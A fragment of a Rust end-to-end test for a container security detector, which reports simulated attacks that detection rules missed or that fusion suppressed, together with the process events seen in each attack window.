    for (i, r) in results.iter().enumerate() {
        let attack = &attacks[i];
        let (t0, t1) = (starts[i], starts.get(i + 1).copied().unwrap_or(t_end));
        let container = match attack.target {
            Target::Web => &web[0].id[..12],
            Target::Worker => &workers[0].id[..12],
        };
        for (rule, h, f, _, _) in &r.per_rule {
            if *h > 0 && *f > 0 {
                continue;
            }
            let what = if *h == 0 {
                "did not hit".to_string()
            } else {
                let lines: Vec<String> = alerts
                    .iter()
                    .filter(|a| a["rule"] == *rule && time_of(a) >= t0 && (attack.matches)(a))
                    .map(|a| a.to_string())
                    .collect();
                format!("hit but fusion suppressed it: {lines:#?}")
            };
            // What habitd saw of the attack (its container, its time), to tell why.
            let seen: Vec<String> = events
                .iter()
                .filter(|e| {
                    let f = &e["output_fields"];
                    let t = e["time"].as_str().and_then(parse_time);
                    f["container.id"] == container
                        && t.is_some_and(|t| t >= t0 && t < t1)
                        && !matches!(e["kind"].as_str(), Some("fork" | "exit" | "accept"))
                        && !is_benign_process(f)
                })
                .take(12)
                .map(|e| {
                    let f = &e["output_fields"];
                    format!(
                        "{} {} name={} exepath={} fd.name={} args={}",
                        e["kind"].as_str().unwrap_or(""),
                        f["evt.type"].as_str().unwrap_or(""),
                        f["proc.name"].as_str().unwrap_or(""),
                        f["proc.exepath"].as_str().unwrap_or(""),
                        f["fd.name"].as_str().unwrap_or(""),
                        f["proc.args"].as_str().unwrap_or(""),
                    )
                })
                .collect();
            failures.push(format!(
                "attack `{}` ({}): rule `{rule}` {what}\n  events of the attack: {seen:#?}",
                r.name, r.scenario
            ));
        }
    }
    if results.len() < 10 {
        failures.push(format!("only {} attacks (at least ten)", results.len()));
    }
    assert!(failures.is_empty(), "{failures:#?}\n{}", context());
    drop(worker3);
    drop(web3);
    println!("fusion_e2e took {:.1} s", started.elapsed().as_secs_f64());
}
